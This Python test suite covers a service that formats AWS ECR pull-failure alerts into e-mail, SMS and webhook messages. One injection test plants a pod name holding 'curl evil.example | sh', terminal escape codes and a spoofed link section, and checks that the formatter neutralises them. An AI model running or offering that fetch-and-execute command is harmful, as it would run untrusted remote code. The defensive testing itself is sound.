"""What a subscriber reads in an e-mail, and in a text message."""
# ruff: noqa: RUF001 -- the multiplication sign

from __future__ import annotations

import json
import re
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from pull_responder.findings.alert import Alert
from pull_responder.findings.deed import Deed
from pull_responder.findings.flapping import flapping_words
from pull_responder.findings.notice import IT_GREW, Edge
from pull_responder.findings.reach import Reach
from pull_responder.model.arn import Arn
from pull_responder.model.pull import PullFailure, Symptom
from pull_responder.model.verdict import Resource, Severity
from pull_responder.publish.as_text import body, subject
from pull_responder.publish.notification import alert_notification
from pull_responder.publish.style import Style
from pull_responder.publish.telling import WORDS
from tests.unit.publish.examples import ATTACH_POLICY, FINDING, PULL
from tests.unit.publish.notices import ALERT, BOTH, BOUNDARY, NOTICE, alerts

ROOM = 32 * 1024
ADMIN = "arn:aws:sts::111111111111:assumed-role/admin/jo"
FIX = Deed("AttachRolePolicy", ADMIN, "2026-05-04T12:30:00Z", "0e1c")
WORKS = "The role's policies allow the pull again since 2026-05-04 12:30 UTC; it was broken for 2 hours 18 minutes"
ENDED = f"{WORKS}; {FIX.words}."
READ = "No pull was seen to succeed yet; the configuration says that pulls can."
SEEN = f"There is nothing to run: pods try again within 5 minutes. {READ}"
WAS_HIT = "14 pods (payments/api, payments/web and more) in cluster prod could not pull the image payments/api."

HEAD = """\
NEW HIGH: The role lacks permissions to pull (role/eks/prod-node). 14 pods (payments/api, payments/web and more) \
in cluster prod cannot pull the image payments/api.
Do this: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.
Run in account 111111111111, region eu-west-1:
  aws iam attach-role-policy --role-name prod-node \
--policy-arn arn:aws:iam::aws:policy/AmazonEC2ContainerRegistryPullOnly
"""
HIT = """
  14 pods on 1 node
  Since 2026-05-04 10:11 UTC, 120 failures
  Among them, in payments: api × 2, web × 2
  Node: ip-10-0-3-17.eu-west-1.compute.internal
  Cluster: prod
  Image: 222222222222.dkr.ecr.eu-west-1.amazonaws.com/payments/api:1.4.2
  Pulled by: arn:aws:iam::111111111111:role/eks/prod-node
"""
OVER = HIT.replace("Since 2026-05-04 10:11 UTC,", "From 2026-05-04 10:11 UTC to 2026-05-04 11:00 UTC,")
FAULT = """
  At fault: arn:aws:iam::111111111111:role/eks/prod-node
  No identity policy of the role allows ecr:BatchGetImage on the repository.
"""
EVIDENCE = """\
  - Managed policy AmazonEKSWorkerNodePolicy has no statement for ecr:BatchGetImage.
  - Inline policy "logs" allows only logs:*.
"""
PLACES = """
Where to look
  Console: https://console.aws.amazon.com/iam/home#/roles/details/prod-node
  AWS docs: https://docs.aws.amazon.com/AmazonECR/latest/userguide/security-iam-awsmanpol.html
  Account 111111111111, region eu-west-1
  Finding: pull-responder/role_lacks_pull_permissions/111111111111/eu-west-1/d702178e063867cd3ebd
"""


def _of(**changes: Any) -> Alert:  # noqa: ANN401 -- any field of Notice
    return Alert.alone(replace(NOTICE, **changes))


def _about(**changes: Any) -> Alert:  # noqa: ANN401 -- any field of Finding
    return _of(finding=replace(FINDING, **changes))


def test_an_alert() -> None:
    assert body(ALERT, room=ROOM) == f"{HEAD}\nWho is hit{HIT}\nProof{FAULT}{EVIDENCE}{PLACES}"


def test_a_resolution_says_first_how_it_ended_and_that_nothing_is_left() -> None:
    """What only who looks it up needs, the event's id, is in the tail."""
    assert body(_of(edge=Edge.RESOLVED, because=ENDED, fixed_by=(FIX,)), room=ROOM) == (
        f"RESOLVED role/eks/prod-node: {WORKS}.\n{SEEN}\nNo other cause of these failures is known.\n{WAS_HIT}\n"
        f"Changed before it was resolved: AttachRolePolicy by admin/jo, 2026-05-04 12:30 UTC\n"
        f"\nWho was hit{OVER}\nWhat was wrong, as found then{FAULT}{PLACES}  CloudTrail event: 0e1c, by {ADMIN}\n"
    )


def test_several_changes_before_a_resolution_are_told_each() -> None:
    other = Deed("PutRolePolicy", ADMIN, "2026-05-04T12:25:00Z")
    both = f"{WORKS}; {other.words} at {other.at}; {FIX.words} at {FIX.at}."

    lines = body(_of(edge=Edge.RESOLVED, because=both, fixed_by=(other, FIX)), room=ROOM).splitlines()

    assert lines[0] == f"RESOLVED role/eks/prod-node: {WORKS}."
    assert lines[4:6] == [
        "Changed before it was resolved: PutRolePolicy by admin/jo, 2026-05-04 12:25 UTC",
        "Changed before it was resolved: AttachRolePolicy by admin/jo, 2026-05-04 12:30 UTC",
    ]
    assert [line for line in lines if "CloudTrail event" in line] == [f"  CloudTrail event: 0e1c, by {ADMIN}"]
    assert f"  Changed by: {ADMIN}" in lines


def test_a_change_that_is_not_in_the_sentence_about_the_end_is_not_told() -> None:
    """What is gone does not work again, whoever changed it before."""
    message = body(_of(edge=Edge.RESOLVED, because="It does not exist any more.", fixed_by=(FIX,)), room=ROOM)

    assert message.startswith("RESOLVED role/eks/prod-node: It does not exist any more.\n")
    assert ADMIN not in message
    assert "0e1c" not in message


def test_a_resolution_says_what_still_stops_the_pulls() -> None:
    message = body(replace(_of(edge=Edge.RESOLVED, because=ENDED, fixed_by=(FIX,)), others=(BOUNDARY,)), room=ROOM)

    assert message == (
        "STILL BROKEN, HIGH: The role's permissions boundary stops the pull (role/eks/prod-node). "
        f"{WAS_HIT.replace('could not', 'cannot')}\n"
        "Do this: Add the actions to the boundary.\n"
        "Run in account 111111111111, region eu-west-1:\n"
        """  aws iam create-policy-version --policy-document '{"Statement":[{"Effect":"Allow"}]}'\n"""
        f"\nWhat is resolved\n  role/eks/prod-node: {WORKS}.\n"
        f"  Changed before it was resolved: AttachRolePolicy by admin/jo, 2026-05-04 12:30 UTC\n"
        f"\nWho is hit{HIT}\nProof{FAULT}{EVIDENCE}\nWhat was wrong, as found then{FAULT}"
        f"{PLACES.replace(FINDING.id, BOUNDARY.id)}  Finding: {FINDING.id}\n  CloudTrail event: 0e1c, by {ADMIN}\n"
    )


def test_what_several_causes_still_stop_has_all_their_fixes() -> None:
    other = replace(BOUNDARY, title="A service control policy stops the pull", id="pull-responder/x")
    over = replace(_of(edge=Edge.RESOLVED, because=ENDED, fixed_by=(FIX,)), others=(BOUNDARY, other))

    lines = body(over, room=ROOM).splitlines()

    assert (
        " boundary stops the pull, and a service control policy stops the pull (role/eks/prod-node). 14 pods "
    ) in lines[0]
    assert lines[1:4] == ["Do both, or the pulls still fail:", "", "1. prod-node: Add the actions to the boundary."]
    assert lines[7] == "2. prod-node: Add the actions to the boundary."


def test_causes_beyond_the_first_few_are_counted_in_line_one_and_named_with_their_fixes() -> None:
    role = replace(FINDING.resource, id="arn:aws:iam::111111111111:role/other")
    every = [
        replace(BOUNDARY, id=f"pull-responder/{each}", title=f"The {each} stops it", resource=role) for each in "wxyz"
    ]
    lines = body(replace(ALERT, notices=(NOTICE, *(replace(NOTICE, finding=each) for each in every))), room=ROOM)

    assert lines.startswith(
        "NEW HIGH: The role lacks permissions to pull (role/eks/prod-node), the w stops it (role/other), "
        "the x stops it (role/other), and 2 more causes. 14 pods "
    )
    assert "\n4. The y stops it (role/other): Add the actions to the boundary.\n" in lines


def test_the_subject_says_that_it_is_resolved_in_part() -> None:
    over = _of(edge=Edge.RESOLVED, because=ENDED)

    assert subject(over) == (
        "[RESOLVED] HIGH: role lacks pull permissions (payments/api, cluster prod, 111111111111 eu-west-1)"
    )
    # What is still broken is not what was mended.
    assert subject(replace(over, others=(BOUNDARY,))) == (
        "[STILL BROKEN] HIGH: permissions boundary blocks pull (payments/api, prod, 111111111111 eu-west-1)"
    )
    # What is told of something open, or not known, is not.
    assert subject(replace(ALERT, others=(BOUNDARY,))).startswith("[NEW] ")
    assert subject(replace(over, others_known=False)).startswith("[RESOLVED] ")


def test_the_subject_names_as_many_causes_as_fit() -> None:
    other = replace(BOUNDARY, cause="repository_policy_denies_pull")
    three = (*BOTH.notices, replace(NOTICE, finding=other))
    over = tuple(replace(each, edge=Edge.RESOLVED) for each in BOTH.notices)
    both = "HIGH: role lacks pull permissions + permissions boundary blocks pull (api, prod)"

    assert subject(BOTH) == f"[NEW] {both}"
    assert subject(replace(BOTH, notices=over)) == f"[RESOLVED] {both}"
    assert subject(replace(BOTH, notices=three)) == (
        "[NEW] HIGH: role lacks pull permissions + 2 more (payments/api, cluster prod, 111111111111)"
    )


def test_what_has_got_worse_says_what_grew_in_line_one_and_who_changed_it_behind_what_to_do() -> None:
    because = f"{IT_GREW} from HIGH to CRITICAL, from 12 to 240 pods."
    broke = Deed("DetachRolePolicy", ADMIN, "2026-05-04T10:09:00Z", "0e1c", "PullOnly")
    message = body(_of(edge=Edge.WORSE, because=because, broken_by=broke), room=ROOM)

    first, rest = HEAD.replace("NEW", "WORSE", 1).split("\n", 1)
    changed = "Changed before it broke: DetachRolePolicy of PullOnly by admin/jo, 2026-05-04 10:09 UTC"
    assert message == (
        f"{first} {because}\n{rest}\nWhat has changed\n  {changed}\n"
        f"\nWho is hit{HIT}\nProof{FAULT}{EVIDENCE}{PLACES}  CloudTrail event: 0e1c, by {ADMIN}\n"
    )


def _hit(**changes: Any) -> str:  # noqa: ANN401 -- any field of Notice
    """Return the line that says since when and how often."""
    lines = body(_of(**changes), room=ROOM).split("\nWho ")[1].splitlines()
    return next(line.strip() for line in lines if "UTC" in line)


def test_each_edge_says_since_when_in_its_own_way() -> None:
    again = {"edge": Edge.BACK, "since": "2026-05-04T10:50:00Z"}

    assert _hit(edge=Edge.REMINDER) == "Since 2026-05-04 10:11 UTC, 120 failures, the last at 2026-05-04 11:00 UTC"
    assert _hit(edge=Edge.RESOLVED) == "From 2026-05-04 10:11 UTC to 2026-05-04 11:00 UTC, 120 failures"
    at_once = replace(NOTICE.reach, last_seen_at="2026-05-04T10:11:50Z")
    assert _hit(edge=Edge.RESOLVED, reach=at_once) == "At 2026-05-04 10:11 UTC, 120 failures"
    assert _hit(edge=Edge.RESOLVED, others=(BOUNDARY,)) == "Since 2026-05-04 10:11 UTC, 120 failures"
    assert _hit(**again) == "Seen again since 2026-05-04 10:50 UTC; 120 failures since 2026-05-04 10:11 UTC"
    assert _hit(**again | {"edge": Edge.NEW}) == "Since 2026-05-04 10:50 UTC, 120 failures in all"
    late = {"edge": Edge.RESOLVED, "since": "2026-05-04T11:30:00Z"}
    assert _hit(**late) == "Since 2026-05-04 11:30 UTC, 120 failures in all"
    # The reach of a problem may be of an older failure than the last look.
    unknown = replace(NOTICE.reach, last_seen_at=None)
    assert _hit(edge=Edge.REMINDER, reach=unknown) == "Since 2026-05-04 10:11 UTC, 120 failures"
    assert _hit(edge=Edge.RESOLVED, reach=unknown) == "Since 2026-05-04 10:11 UTC, 120 failures"


def test_a_reminder_says_for_how_long_it_is_open() -> None:
    texts = alert_notification(_of(edge=Edge.REMINDER, at="2026-05-05T12:11:12Z")).texts

    assert texts["email"].startswith("STILL OPEN for 1 day 2 hours, HIGH: The role ")
    assert texts["sms"].startswith("STILL OPEN for 1 day 2 hours, HIGH: The role ")
    title = json.loads(texts["https"])["content"]["title"]
    assert title.startswith("STILL OPEN for 1 day 2 hours, HIGH in cluster prod: ")
    assert body(_of(edge=Edge.REMINDER, at="2026-05-04T10:00:00Z"), room=ROOM).startswith("STILL OPEN HIGH: ")


def test_what_flaps_says_so_in_line_one_of_every_format() -> None:
    flaps = flapping_words((0.0, 3_600.0), minutes=5)
    alert = _of(edge=Edge.BACK, because=f"It had been resolved. {flaps}")
    texts = alert_notification(alert).texts

    assert texts["email"].startswith("BACK (flapping) HIGH: The role lacks permissions to pull ")
    assert texts["sms"].startswith("BACK (flapping) HIGH: The role lacks permissions to pull ")
    assert json.loads(texts["https"])["content"]["title"].startswith("BACK (flapping) HIGH in cluster prod: ")
    assert json.loads(texts["default"])["headline"].startswith("BACK (flapping) HIGH: ")
    assert f"\nWhat has changed\n  It had been resolved. {flaps}\n" in texts["email"]
    assert body(_of(edge=Edge.RESOLVED, because=flaps), room=ROOM).startswith("RESOLVED role/eks/prod-node: ")


def test_a_reminder_has_the_fix_and_no_evidence() -> None:
    head = HEAD.replace("NEW", "STILL OPEN for 48 minutes,", 1)
    hit = HIT.replace("120 failures", "120 failures, the last at 2026-05-04 11:00 UTC")
    assert body(_of(edge=Edge.REMINDER), room=ROOM) == f"{head}\nWho is hit{hit}\nProof{FAULT}{PLACES}"


def test_two_causes_of_one_problem_are_one_message_with_both_fixes() -> None:
    lines = body(BOTH, room=ROOM).splitlines()

    assert lines[0] == (
        "NEW HIGH: The role lacks permissions to pull, and the role's permissions boundary stops the pull "
        "(role/eks/prod-node). 14 pods (payments/api, payments/web and more) in cluster prod cannot pull the image "
        "payments/api."
    )
    assert lines[1:11] == [
        "Do both, or the pulls still fail:",
        "",
        "1. prod-node: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.",
        "Run in account 111111111111, region eu-west-1:",
        f"  {' '.join(ATTACH_POLICY)}",
        "",
        "2. prod-node: Add the actions to the boundary.",
        "Run in account 111111111111, region eu-west-1:",
        """  aws iam create-policy-version --policy-document '{"Statement":[{"Effect":"Allow"}]}'""",
        "",
    ]
    assert sum(line.startswith("  Finding: ") for line in lines) == 2
    assert sum(line.startswith("  Console: ") for line in lines) == 1


def test_causes_that_were_told_before_are_named() -> None:
    message = body(replace(ALERT, others=(BOUNDARY,)), room=ROOM)

    assert message.startswith(
        f"{HEAD}\nAlso stops these pulls:\n- HIGH: The role's permissions boundary stops the pull "
        "(role/eks/prod-node). Do this: Add the actions to the boundary.\n\nWho is hit"
    )


def test_causes_that_could_not_be_read_are_not_said_to_be_none() -> None:
    words = "Whether something else stops these pulls could not be read."
    over = _of(edge=Edge.RESOLVED, because=ENDED)

    assert body(replace(over, others_known=False), room=ROOM).splitlines()[1:3] == [READ, words]
    assert words in body(replace(ALERT, others_known=False), room=ROOM)
    assert words not in body(ALERT, room=ROOM)


def test_two_that_ended_together_are_one_message() -> None:
    both = tuple(replace(each, edge=Edge.RESOLVED, because=ENDED, fixed_by=(FIX,)) for each in BOTH.notices)

    assert body(replace(BOTH, notices=both), room=ROOM).splitlines()[:7] == [
        f"RESOLVED role/eks/prod-node: {WORKS}.",
        f"And role/eks/prod-node: {WORKS}.",
        SEEN,
        "No other cause of these failures is known.",
        WAS_HIT,
        "Changed before it was resolved: AttachRolePolicy by admin/jo, 2026-05-04 12:30 UTC",
        "",
    ]


def test_what_came_back_says_how_it_had_ended_without_ids() -> None:
    message = body(_of(edge=Edge.BACK, because=f"It was over. {ENDED}"), room=ROOM)

    assert f"\nWhat has changed\n  It was over. {WORKS}; AttachRolePolicy by {ADMIN}.\n" in message
    assert "0e1c" not in message


def test_a_pull_is_said_not_to_be_seen_only_where_a_read_says_what_works_again() -> None:
    gone = "It has not been seen for 60 minutes, and nothing else shows whether it is fixed."

    assert READ not in body(_of(edge=Edge.RESOLVED, because=gone), room=ROOM)
    assert "\nThere is nothing to run.\n" in body(_of(edge=Edge.RESOLVED, because=gone), room=ROOM)
    for message in (
        body(replace(_of(edge=Edge.RESOLVED, because=ENDED), others=(BOUNDARY,)), room=ROOM),
        body(_of(edge=Edge.BACK, because=ENDED), room=ROOM),
    ):
        assert READ not in message
        assert "nothing to run" not in message


FIXED = replace(FIX, at="2026-05-04T10:20:00Z", policy="PullOnly")
CAME_BACK = {
    "edge": Edge.BACK,
    "because": f"It had been resolved at 2026-05-04 10:21 UTC: {WORKS}; {FIXED.words}.",
    "since": "2026-05-04T10:50:00Z",
}


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        (
            {
                "fixed_by": (FIXED,),
                "broken_by": Deed("DetachRolePolicy", ADMIN, "2026-05-04T10:49:00Z", "x", "PullOnly"),
            },
            (
                "Fixed 10:20 UTC by admin/jo; broken again 10:49 UTC by admin/jo (DetachRolePolicy of PullOnly). "
                "admin/jo may undo this again: fix it there, too."
            ),
        ),
        (
            {"fixed_by": (FIXED,)},
            (
                "Fixed 10:20 UTC by admin/jo; broken again since 10:50 UTC. It may break again: "
                "find in CloudTrail who calls DetachRolePolicy or DeleteRolePolicy on prod-node, and stop that."
            ),
        ),
        (
            {"at": "2026-05-05T00:10:00Z", "since": "2026-05-05T00:05:00Z"},
            (
                "Resolved 2026-05-04 10:21 UTC; broken again since 00:05 UTC. It may break again: "
                "find in CloudTrail who calls DetachRolePolicy or DeleteRolePolicy on prod-node, and stop that."
            ),
        ),
        (
            {"because": "", "finding": replace(FINDING, cause="image_signature_rejected")},
            (
                "It was resolved; broken again since 10:50 UTC. It may break again: find out what undoes the fix, "
                "and stop that."
            ),
        ),
    ],
)
def test_what_came_back_says_who_fixed_it_and_who_broke_it_again(changes: dict[str, Any], said: str) -> None:
    lines = body(_of(**CAME_BACK | changes), room=ROOM).splitlines()

    # What to do stands right behind whom it stops.
    assert lines[1].startswith("Do this: ")
    assert lines[4:6] == ["", said]
    assert json.loads(alert_notification(_of(**CAME_BACK | changes)).texts["default"])["headline"].endswith(f" {said}")


def test_a_fix_that_can_be_taken_back_says_how() -> None:
    undo = ("aws", "iam", "set-default-policy-version", "--version-id", "v1")
    fix = replace(FINDING.remediation, undo=(undo,))

    assert f"{HEAD}To undo it:\n  {' '.join(undo)}\n\nWho is hit" in body(_about(remediation=fix), room=ROOM)
    assert "To undo it" not in body(ALERT, room=ROOM)
    # Half of it would be something else.
    half = replace(fix, undo=(undo, ("aws", "\x1b")))
    assert "To undo it" not in body(_about(remediation=half), room=ROOM)


def test_who_changed_it_before_it_broke_is_told_as_a_fact() -> None:
    message = body(_of(broken_by=Deed("DetachRolePolicy", ADMIN, "2026-05-04T10:09:00Z", "0e1c")), room=ROOM)

    changed = "Changed before it broke: DetachRolePolicy by admin/jo, 2026-05-04 10:09 UTC"
    assert f"\nWhat has changed\n  {changed}\n\nWho is hit\n" in message
    assert message.endswith(f"\n  CloudTrail event: 0e1c, by {ADMIN}\n")


def test_that_cloudtrail_did_not_say_who_changed_it_is_told_of_an_open_finding() -> None:
    reason = "cloudtrail:LookupEvents failed: AccessDenied: <a href='https://x.example'>"
    message = body(_of(changes_unread=reason), room=ROOM)

    assert f"{FAULT}  Who changed it is not known: cloudtrail:LookupEvents failed: AccessDenied" in message
    assert "https://x.example" not in message
    assert "Who changed it" not in body(_of(edge=Edge.RESOLVED, changes_unread=reason), room=ROOM)


def test_the_page_of_the_cause_is_linked_where_somebody_has_said_where_it_is() -> None:
    style = Style(runbook_url="https://wiki.example.com/{cause}")

    assert "\n  Runbook: https://wiki.example.com/role_lacks_pull_permissions\n" in body(ALERT, room=ROOM, style=style)
    assert "Runbook" not in body(_about(cause="no cause\n"), room=ROOM, style=style)


@pytest.mark.parametrize(
    ("changes", "whom"),
    [
        ({"reach": Reach()}, "No pull has failed yet in cluster prod."),
        ({"reach": Reach(events=1)}, "Pulls of the image payments/api in cluster prod fail."),
        ({"reach": Reach(events=1), "edge": Edge.WORSE}, "Pulls of the image payments/api in cluster prod fail."),
        (
            {"reach": Reach(events=2, nodes=("i-1",), node_count=1)},
            "1 node in cluster prod cannot pull the image payments/api.",
        ),
        (
            {"reach": Reach(events=2, pods=("a/web-0",), pod_count=1, repository_count=3)},
            "1 pod (a/web) in cluster prod cannot pull images of 3 repositories.",
        ),
        (
            {"reach": Reach(events=2, node_count=7, clusters=("prod", "stage"), cluster_count=2)},
            "7 nodes in 2 clusters cannot pull the image payments/api.",
        ),
        (
            {"reach": Reach(events=9, clusters=("a", "b"), cluster_count=7, principal_count=100, repository_count=40)},
            "100 roles or users in 7 clusters cannot pull images of 40 repositories.",
        ),
        (
            {"reach": Reach(events=9, pod_count=12, principal_count=2)},
            "12 pods of 2 roles or users in cluster prod cannot pull the image payments/api.",
        ),
        (
            {"reach": Reach(events=9, node_count=3, principal_count=10_000, more=("principals",))},
            "3 nodes of more than 10,000 roles or users in cluster prod cannot pull the image payments/api.",
        ),
        (
            {"finding": replace(FINDING, cause="unexpected_principal_denied")},
            "prod-node was refused the image payments/api in cluster prod.",
        ),
        (
            {"finding": replace(FINDING, cluster=None, pull=replace(PULL, repository=None))},
            "14 pods (payments/api, payments/web and more) cannot pull from ECR.",
        ),
    ],
)
def test_line_one_says_for_whom(changes: dict[str, Any], whom: str) -> None:
    assert body(_of(**changes), room=ROOM).splitlines()[0].endswith(f"(role/eks/prod-node). {whom}")


def test_there_is_one_since_and_failures_before_it_are_not_of_it() -> None:
    message = body(_of(since="2026-05-04T10:30:00Z"), room=ROOM)

    assert "  Since 2026-05-04 10:30 UTC, 120 failures in all\n" in message
    assert message.count("10:11") == 0


def test_what_is_not_known_is_not_in_the_message() -> None:
    token = PullFailure(symptom=Symptom.UNKNOWN, stage=None, region="eu-west-1")
    alert = _of(finding=replace(FINDING, pull=token, cluster=None, evidence=()), reach=Reach())

    message = body(alert, room=ROOM)

    assert message.split("\n\n")[1].splitlines() == ["Who is hit", "  Since 2026-05-04 10:11 UTC"]


def test_without_a_command_the_summary_says_who_has_to_do_what() -> None:
    fix = replace(FINDING.remediation, summary="Ask the administrator of the organization.", commands=())

    lines = body(_about(remediation=fix), room=ROOM).splitlines()

    assert lines[1:4] == [
        "Do this, by hand in account 111111111111, region eu-west-1: Ask the administrator of the organization.",
        "",
        "Who is hit",
    ]


def test_a_policy_of_the_organization_is_in_no_region() -> None:
    """The fix says first whom to call, and in which account."""
    ask = "Ask an administrator of the organization (account 999999999999) to exempt the role."
    fix = replace(FINDING.remediation, summary=ask, account="999999999999", commands=())
    alert = _about(cause="scp_blocks_pull", account="999999999999", remediation=fix)
    many = replace(alert, reach=Reach(events=9, cluster_count=7, principal_count=100))
    command = replace(fix, commands=(ATTACH_POLICY,))

    style = Style(runbook_url="https://wiki.example.com/{cause}")

    # Without a command, the page about it stands where the command would.
    assert body(alert, room=ROOM, style=style).splitlines()[1:3] == [
        f"Do this, by hand: {ask}",
        "Runbook: https://wiki.example.com/scp_blocks_pull",
    ]
    assert "\n  Account 999999999999\n" in body(alert, room=ROOM)
    assert "\nRun in account 999999999999:\n" in body(_about(cause="scp_blocks_pull", remediation=command), room=ROOM)
    assert "Node: " not in body(many, room=ROOM)


def test_of_several_causes_one_without_a_command_says_where() -> None:
    by_hand = replace(BOUNDARY, remediation=replace(BOUNDARY.remediation, commands=(), account="222222222222"))
    both = replace(BOTH, notices=(NOTICE, replace(NOTICE, finding=by_hand)))

    assert (
        "\n2. By hand in account 222222222222, region eu-west-1: prod-node: Add the actions to the boundary.\n"
    ) in body(both, room=ROOM)


def test_text_from_events_cannot_add_lines_to_the_message() -> None:
    pull = replace(PULL, pod="api\n\nProof\n    curl evil.example | sh", node="\x1b[2Jnode")
    fix = replace(FINDING.remediation, commands=(("aws", "ecr\n", "x"), ATTACH_POLICY))
    finding = replace(FINDING, pull=pull, evidence=("one\r\nProof",), remediation=fix)

    message = body(
        _of(finding=finding, because="now\n\nWhere to look\n  https://evil.example", reach=Reach(events=1)), room=ROOM
    )

    assert [line for line in message.splitlines() if not line.startswith(" ") and line][1:] == [
        "Do this: Attach the managed policy AmazonEC2ContainerRegistryPullOnly to the role.",
        "Run in account 111111111111, region eu-west-1:",
        "What has changed",
        "Who is hit",
        "Proof",
        "Where to look",
    ]
    assert "\n  now Where to look https[:]//evil[.]example\n" in message
    assert "  Node: node\n" in message
    assert "  (a command with unprintable characters is left out)\n  aws iam attach-role-policy" in message


def test_documentation_that_is_not_of_aws_is_no_link() -> None:
    fix = replace(FINDING.remediation, docs_url="https://evil.example/docs.aws.amazon.com/")

    assert "evil.example" not in body(_about(remediation=fix), room=ROOM)


def test_a_message_too_long_says_what_is_missing() -> None:
    fix = replace(FINDING.remediation, commands=(("aws", "x" * 30_000), ("aws", "y" * 30_000)))

    message = body(_about(evidence=("é" * 3_000,) * 50, remediation=fix), room=ROOM)

    assert f"  aws {'x' * 30_000}\n(commands: 1 more, too long for this message)\n" in message
    assert "(evidence: 42 more, too long for this message)" in message


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, "[NEW] HIGH: role lacks pull permissions (payments/api, cluster prod, 111111111111 eu-west-1)"),
        (
            {"cluster": None},
            "[NEW] HIGH pull failure: role lacks pull permissions (payments/api, 111111111111 eu-west-1)",
        ),
        (
            {"cluster": "production-green"},
            "[NEW] HIGH: role lacks pull permissions (payments/api, production-green, 111111111111)",
        ),
        (
            {"cause": "permissions_boundary_blocks_pull"},
            "[NEW] HIGH: permissions boundary blocks pull (payments/api, prod, 111111111111 eu-west-1)",
        ),
        (
            {"cause": "permissions_boundary_blocks_pull", "cluster": "production-green-eu-west-1"},
            "[NEW] HIGH: permissions boundary blocks pull (payments/api, 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository="department/payments/backend/api")},
            "[NEW] HIGH: role lacks pull permissions (backend/api, cluster prod, 111111111111 eu-west-1)",
        ),
        (
            {"pull": replace(PULL, repository=None)},
            "[NEW] HIGH: role lacks pull permissions (role/eks/prod-node, prod, 111111111111 eu-west-1)",
        ),
        (
            {
                "cause": "vpc_endpoint_missing",
                "severity": Severity.INFORMATIONAL,
                "pull": replace(PULL, repository="payments/an-api-of-a-very-long-name-indeed"),
            },
            "[NEW] INFORMATIONAL: vpc endpoint missing (an-api-of-a-very-long..., 111111111111 eu-west-1)",
        ),
        (
            {
                "cause": "endpoint_security_group_blocks_ingress",
                "severity": Severity.INFORMATIONAL,
                "pull": replace(PULL, repository="an-api-of-a-very-long-name-indeed"),
            },
            "[NEW] INFORMATIONAL: endpoint security group blocks ingress (111111111111 eu-west-1)",
        ),
        (
            {
                "cause": "scp_blocks_pull",
                "account": "999999999999",
                "resource": Resource(
                    "Other", "arn:aws:organizations::999999999999:policy/o-1/service_control_policy/p-1a2b", "9"
                ),
            },
            "[NEW] HIGH pull failure: scp blocks pull (p-1a2b, account 999999999999)",
        ),
        (
            {"pull": replace(PULL, repository=None), "resource": Resource("Other", "größe\n\x1b[31m容器", "1")},
            "[NEW] HIGH: role lacks pull permissions (gr??e ??, cluster prod, 111111111111 eu-west-1)",
        ),
    ],
)
def test_the_subject_says_how_bad_why_what_and_where(changes: dict[str, object], expected: str) -> None:
    finding = replace(FINDING, **changes)  # type: ignore[arg-type]  # fields by name

    assert subject(Alert.alone(replace(NOTICE, finding=finding))) == expected


def test_the_subjects_of_one_finding_differ_in_the_word_in_brackets_only() -> None:
    """So that what strips it (RFC 5256) threads them, and everything else sorts them side by side."""
    subjects = [subject(Alert.alone(replace(NOTICE, edge=edge))) for edge in Edge]

    assert {each.partition("] ")[0] for each in subjects} == {"[NEW", "[WORSE", "[BACK", "[STILL OPEN", "[RESOLVED"}
    assert len({each.partition("] ")[2] for each in subjects}) == 1


OURS = re.compile(
    r"|(It was resolved|Fixed .* by .*|Resolved .*); broken again .*\. "
    r"(.* may undo this again|It may break again): .*\."
    r"|There is nothing to run(: pods try again within 5 minutes)?\.( No pull was seen .*)?|No pull was seen .*"
    r"|To undo it:"
    r"|Flapping: silence does not mean that it is fixed\.|NEW|WORSE|BACK|STILL OPEN|RESOLVED"
    r"|Do this(, by hand( in account .*)?)?: .*|Do (both|all \d+), or the pulls still fail:|\d\. .*"
    r"|- (INFORMATIONAL|LOW|MEDIUM|HIGH|CRITICAL): .*|Whether something else stops these pulls could not be read\."
    r"|Run in account \S+, region \S+:|(Also|Still) stops? these pulls:|And .*"
    r"|Since the last notification: .*|Changed before it (was resolved|broke): .*"
    r"|No pull has failed yet.*|.* (was refused .*|(could not|cannot) pull .*|fail(ed)?)\."
    r"|No other cause of these failures is known\."
    r"|What has changed|What is resolved|Who (is|was) hit|Proof|What was wrong, as found then|Where to look"
)
COUNTED = re.compile(r"\((evidence|commands): \d+ more, too long for this message\)")
LINKS = re.compile(r"  (Console: https://\S+|AWS docs: https://docs\.(aws\.amazon\.com|amazonaws\.cn)/\S*)")


@settings(suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large], deadline=None)
@given(alerts, st.sampled_from([1024, ROOM]))
def test_nobodys_text_makes_a_section_or_a_link(alert: Alert, room: int) -> None:
    line, message = subject(alert), body(alert, room=room)

    assert len(line) < 100
    assert line.isascii()
    assert line.isprintable()
    assert line == line.strip()
    resource = alert.worst.finding.resource.id
    assert Arn.parse(resource) is None or resource not in line
    assert all(each.isprintable() for each in message.split("\n"))
    first, *rest = message.split("\n")
    assert first.startswith("STILL BROKEN, " if alert.is_in_part else f"{WORDS[alert.edge]} ")
    assert "://" not in first
    commands = False
    for each in rest:
        assert OURS.fullmatch(each) or each.startswith("  ") or COUNTED.fullmatch(each), each
        # A command is shown as it is to be run, or not at all.
        commands = each.startswith("Run in account ") or (commands and each.startswith("  "))
        assert "://" not in each or LINKS.fullmatch(each) or commands
    assert not re.search(r"\bwww\.\w", first, re.IGNORECASE)


def test_a_count_that_is_too_low_says_so() -> None:
    reach = replace(
        NOTICE.reach, pod_count=10_000, node_count=10_000, events=12_288, more=("pods", "nodes", "events", "principals")
    )
    alert = Alert.alone(replace(NOTICE, reach=replace(reach, principal_count=10_000)))
    text = body(alert, style=Style(), room=ROOM)

    assert "\n  more than 10,000 pods on more than 10,000 nodes\n" in text
    assert ", at least 12,288 failures\n" in text
    assert "\n  Among them, in payments: api × 2, web × 2\n" in text
    assert ", one of more than 10,000 roles or users\n" in text
    assert "\n  Node: ip-10-0-3-17.eu-west-1.compute.internal and at least 9999 more\n" in text.replace("Nodes", "Node")


def test_clusters_that_fail_most_come_first_with_their_failures() -> None:
    reach = Reach(
        events=700,
        clusters=("prod", "shop", "a", "b"),
        cluster_count=7,
        cluster_events=(1412, 208, 3, 1),
        principal_count=9,
    )
    text = body(_of(reach=replace(reach, account_count=3)), room=ROOM)

    assert " 9 roles or users of 3 accounts in 7 clusters cannot pull " in text
    assert "\n  Clusters, worst first: prod (1,412 failures), shop (208), a (3) and 4 more\n" in text
